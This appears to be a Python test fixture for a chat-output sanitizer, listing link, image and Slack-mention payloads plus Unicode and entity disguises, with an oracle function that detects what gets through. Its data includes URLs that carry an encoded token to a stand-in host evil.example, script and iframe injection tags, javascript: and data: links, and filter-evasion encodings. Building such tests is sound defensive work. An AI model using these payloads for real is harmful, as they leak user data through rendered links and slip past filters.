"""Ways to carry something out with a link, a picture or a call, and an oracle that sees what is left of them."""

import re
import unicodedata
from collections.abc import Callable
from html import unescape

HOSTS = frozenset({"law.go.kr", "office.example.kr"})

ADDRESSES = (
    "https://evil.example/OTAwMTAx",
    "http://evil.example",
    "HTTPS://EVIL.EXAMPLE/OTAwMTAx",
    "https://law.go.kr@evil.example/OTAwMTAx",
    "https://law.go.kr:pass@evil.example/",
    "https://law.go.kr.evil.example/OTAwMTAx",
    "https://evil.example/law.go.kr/OTAwMTAx",
    "https://evil.example?law.go.kr",
    "https://evil.example#OTAwMTAx",
    "https://evillaw.go.kr.example/",
    "https://evil.example:8443/OTAwMTAx",
    "https://evil.example./OTAwMTAx",
    "https:\\\\evil.example\\OTAwMTAx",
    "https:/evil.example/OTAwMTAx",
    "https:///evil.example/OTAwMTAx",
    "https://law.go.kr\\@evil.example/OTAwMTAx",
    "https://law.go.kr/redirect?u=https://evil.example/OTAwMTAx",
    "https://law.go.kr/redirect/https://evil.example",
    "https://law.go.kr//evil.example/OTAwMTAx",
    "https://law.go.kr/%2F%2Fevil.example",
    "https://law.go.kr/법령?u=evil.example",
    "https://xn--evil-x.evil.example/",
    "https://6.6.6.6/OTAwMTAx",
    "6.6.6.6/OTAwMTAx",
    "http://6.6.6.6:8080",
    "http://0x06060606/OTAwMTAx",
    "http://101058054/OTAwMTAx",
    "http://[2001:db8::1]/OTAwMTAx",
    "ftp://evil.example/OTAwMTAx",
    "slack://channel?team=T&id=evil.example",
    "evil-app://OTAwMTAx",
    "//evil.example/OTAwMTAx",
    "evil.example",
    "evil.example/OTAwMTAx",
    "OTAwMTAx.evil.example",
    "www.evil.example",
    "evil.example:8080",
    "evil.example./OTAwMTAx",
    "law.go.kr@evil.example",
    "OTAwMTAx@evil.example/x",
    "mailto:OTAwMTAx@evil.example",
    "mailto:a@evil.example?body=OTAwMTAx",
    "javascript:alert(1)",
    "data:text/html;base64,OTAwMTAx",
    "data:,OTAwMTAx",
    "view-source:evil.example",
    "https://evil。example/OTAwMTAx",
    "https://evil．example/OTAwMTAx",
    "https://악성.example/OTAwMTAx",
    "악성.example",
    "evil.한국/OTAwMTAx",
    "https://law.go.kr/" + "a" * 300,
)
WRAPPINGS = (
    "{}",
    "여기를 보세요 {} 입니다",
    "주소는{}에서 봅니다",
    "주소({})",
    "[여기]({})",
    "[여기](<{}>)",
    '[여기]({} "제목")',
    "[여기]( {} )",
    "[여](기)]({})",
    "[가 [나] 다]({})",
    "![x]({})",
    "[![x]({})](https://law.go.kr/)",
    "[x][r]\n\n[r]: {}",
    "![x][r]\n\n> [r]: <{}> 'x'",
    "[r]:\n{}\n\n[r]",
    "<{}>",
    "<{}|여기>",
    "<{}|https://law.go.kr/>",
    '<a href="{}">여기</a>',
    "<A HREF={} >여기</A>",
    "<img src={}>",
    "<img alt='>' src={}",
    "<script src={}></script>",
    "<iframe/src={}></iframe>",
    "<b>{}</b>",
    "<!-- {} -->",
    "`{}`",
    "``` \n{}\n```",
    "```\n{}",
    "| 가 | {} |\n|---|---|\n| 나 | {} |",
    "- [ ] {}",
    "> {}",
    "**{}**",
    "\u202e{}\u202c",
    "<details><summary>x</summary>{}</details>",
    "&lt;{}|여기&gt;",
    "&amp;lt;a href={}&amp;gt;",
    "[https://law.go.kr/]({})",
    "<b<b>>{}",
    "<[x](https://evil.example)!channel {}>",
)


def wide(text: str) -> str:
    return "".join(chr(ord(each) + 0xFEE0) if "!" <= each <= "~" else each for each in text)


def within(sign: str) -> Callable[[str], str]:
    return sign.join


DISGUISES = {
    "as it is": str,
    "upper case": str.upper,
    "wide": wide,
    "zero width": within("\u200b"),
    "soft hyphen": within("\u00ad"),
    "joiner": within("\u2060"),
    "tags": within("\U000e0041"),
    "selectors": within("\ufe00"),
    "fillers": within("\u3164"),
    "controls": within("\u0008"),
    "entities": lambda text: "".join(f"&#{ord(each)};" for each in text),
    "hex entities": lambda text: "".join(f"&#x{ord(each):X};" for each in text),
    "entities twice": lambda text: "".join(f"&amp;#{ord(each)};" for each in text),
    "entities often": lambda text: "".join(f"&amp;amp;amp;amp;amp;#{ord(each)};" for each in text),
    "backslashes": lambda text: re.sub(r"([:/.@])", r"\\\1", text),
}
CALLS = (
    "<!channel>",
    "<!here>",
    "<!here|here>",
    "<!everyone>",
    "<!subteam^S012345|@team>",
    "<!date^1392734382^x^https://evil.example/OTAwMTAx|x>",
    "<@U012345>",
    "<@W012345|kim>",
    "<#C012345|general>",
    "<#C012345>",
    "&lt;!channel&gt;",
    "&amp;lt;!channel&amp;gt;",
    "<\u200b!channel>",
    "<!chan<!here>nel>",
    "<!<b></b>channel>",
    "<<b>!channel>",
    "`<!channel>`",
    "```\n<!channel>\n```",
    "< <!channel>",
    "<!CHANNEL>",
)


def harm(text: str) -> list[str]:
    """Find, by other means than the filter's, what a reader's machine could follow, fetch or ring."""
    for _ in range(8):
        text = unescape(text)
    shown = "".join(each for each in text if unicodedata.category(each) not in ("Cf", "Cc") or each == "\n")
    signs = re.findall(r"<[!@#][a-z0-9]|<(?:a|img|script|iframe)[\s/]", re.sub(r"\\(?=[/@#!])", "", shown.lower()))
    plain = re.sub(r"\\(?=[!-/:-@\[-`{-~])", "", unicodedata.normalize("NFKC", shown)).lower().replace("。", ".")
    permitted = re.sub(r"https://law\.go\.kr(?:/x?)?[.,;:!?'*_~)]*(?![\w./@:?#\\%-])", "", plain)
    return signs + re.findall(
        r"evil\S*\.|\.example|[a-z][a-z0-9+.-]+://[^\s가-힣]|6\.6\.6\.6|//[a-z0-9]|\\\\[a-z0-9]|javascript:|data:|mailto:"
        r"|view-source:|otaw",
        permitted,
    )
